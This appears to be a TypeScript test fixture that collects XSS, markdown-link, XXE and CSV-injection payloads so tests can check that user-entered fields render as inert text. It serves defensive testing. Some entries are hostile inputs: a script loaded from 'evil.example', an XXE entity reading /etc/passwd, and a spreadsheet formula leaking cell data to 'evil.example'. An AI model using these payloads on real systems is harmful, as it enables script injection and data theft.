/**
 * Hostile text for every field a signer or organiser can write, shared by the unit tests (each
 * renderer on its own), and the end-to-end spec (every page and output, in a real browser).
 *
 * Each payload that could run announces itself the same way: it sets `window.__xss` or opens a
 * dialog (`alert(1)`). A test proves inertness by finding neither, and proves the data reached
 * the page by finding the payload shown as text.
 */

/** What a payload that ran would have set on `window`. */
export const XSS_SENTINEL = "__xss";

/**
 * Plain-text fields (names, titles, comments, reasons, updates…): each must come out exactly as
 * typed, as text. Every payload here fits the shortest such field (120 characters).
 */
export const XSS_TEXT_PAYLOADS: readonly string[] = [
  // Tags and event handlers.
  "<script>window.__xss=1</script>",
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror="window.__xss=1">',
  "<svg onload=window.__xss=1>",
  "<svg><script>window.__xss=1</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:window.__xss=1">',
  '<a href="javascript:window.__xss=1">raw link</a>',
  "<details open ontoggle=window.__xss=1>",
  "<input autofocus onfocus=window.__xss=1>",
  "<body onload=alert(1)>",
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  // Breaking out of an attribute, a text container or an inline script.
  '"><script>window.__xss=1</script>',
  "'><img src=x onerror=alert(1)>",
  "' onmouseover='window.__xss=1' x='",
  '" autofocus onfocus="window.__xss=1" x="',
  "</textarea><script>window.__xss=1</script>",
  "</title><script>window.__xss=1</script>",
  "</script><script>window.__xss=1</script>",
  "</style><script>window.__xss=1</script>",
  "<!--<script>window.__xss=1</script>-->",
  // Template and JSON breakouts (client templates, JSON in a <script>, line separators that end a JS string).
  "{{constructor.constructor('window.__xss=1')()}}",
  "${alert(1)}",
  "\u2028\u2029</script><script>window.__xss=1//",
  '"}];window.__xss=1;//',
  // CSS.
  '<div style="background:url(javascript:window.__xss=1)">css</div>',
  '<div style="width:expression(window.__xss=1)">ie</div>',
  "<style>@import 'javascript:window.__xss=1';</style>",
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  '<base href="javascript:window.__xss=1//">',
  // URLs that are only text here, and must never become a link.
  "javascript:window.__xss=1",
  "JaVaScRiPt:alert(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  // Already-escaped text must be shown as typed, not decoded into markup.
  "&lt;script&gt;window.__xss=1&lt;/script&gt;",
  // SVG and XML breakouts, for the badge.
  "]]><script>window.__xss=1</script><![CDATA[",
  '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;',
  // Spreadsheet formulas, for the CSV export (OWASP's CSV injection list).
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

/** The payloads a spreadsheet would evaluate if the export wrote them unchanged. */
export const CSV_FORMULA_PAYLOADS: readonly string[] = XSS_TEXT_PAYLOADS.filter((payload) => /^[=+\-@\t\r]/.test(payload));

/**
 * Markdown tricks for the letter body. `label` is the text that must still be shown (a hostile
 * link keeps its words and loses its target); null where nothing of the payload should show.
 */
export const XSS_MARKDOWN_PAYLOADS: readonly { source: string; label: string | null }[] = [
  { source: "[md-js](javascript:window.__xss=1)", label: "md-js" },
  { source: "[md-js-mixed-case](JaVaScRiPt:window.__xss=1)", label: "md-js-mixed-case" },
  { source: "[md-js-entity](&#106;avascript:window.__xss=1)", label: "md-js-entity" },
  { source: "[md-js-hex-entities](&#x6A;avascript&#x3A;window.__xss=1)", label: "md-js-hex-entities" },
  { source: "[md-js-tab](java&#9;script:window.__xss=1)", label: "md-js-tab" },
  { source: "[md-js-newline](java&#10;script:window.__xss=1)", label: "md-js-newline" },
  { source: "[md-js-leading-control](&#1;javascript:window.__xss=1)", label: "md-js-leading-control" },
  { source: "[md-js-angle](<javascript:window.__xss=1>)", label: "md-js-angle" },
  { source: "[md-vbscript](vbscript:msgbox(1))", label: "md-vbscript" },
  { source: "[md-data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", label: "md-data" },
  { source: "[md-reference][evil-reference]\n\n[evil-reference]: javascript:window.__xss=1", label: "md-reference" },
  { source: '[md-title](https://example.org "x\\" onmouseover=\\"window.__xss=1")', label: "md-title" },
  { source: "[md-label <img src=x onerror=window.__xss=1>](https://example.org/label)", label: "md-label" },
  { source: "<javascript:window.__xss=1>", label: null },
  { source: "<data:text/html,window.__xss=1>", label: null },
  { source: "![md-image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", label: null },
  { source: "![md-remote-image](https://tracker.example/pixel.gif)", label: null },
  { source: '<a href="javascript:window.__xss=1">md-raw-anchor</a>', label: "md-raw-anchor" },
  { source: '<iframe src="javascript:window.__xss=1"></iframe>', label: null },
  { source: "<script>window.__xss=1</script>", label: null },
  { source: '<img src="x" onerror="window.__xss=1">', label: null },
  { source: '<svg onload="window.__xss=1"></svg>', label: null },
  { source: "<style>body { display: none }</style>", label: null },
  { source: '<div style="background:url(javascript:window.__xss=1)">md-raw-div</div>', label: null },
  { source: "```html\n<script>window.__xss=1</script>\n```", label: "<script>window.__xss=1</script>" },
  { source: "`<img src=x onerror=alert(1)>`", label: "<img src=x onerror=alert(1)>" },
];

/** The one link of the hostile body that must survive: proof that links are not simply all removed. */
export const SAFE_MARKDOWN_LINK = { label: "md-safe-link", href: "https://example.org/safe" };

/** A letter body carrying every Markdown payload, plus a marker paragraph and one legitimate link. */
export function hostileMarkdownBody(): string {
  return [
    "Dear board, this body is hostile.",
    ...XSS_MARKDOWN_PAYLOADS.map((payload) => payload.source),
    `[${SAFE_MARKDOWN_LINK.label}](${SAFE_MARKDOWN_LINK.href})`,
  ].join("\n\n");
}

/** Payloads that fit a field of `max` characters. */
export const payloadsFitting = (max: number) => XSS_TEXT_PAYLOADS.filter((payload) => payload.length <= max);
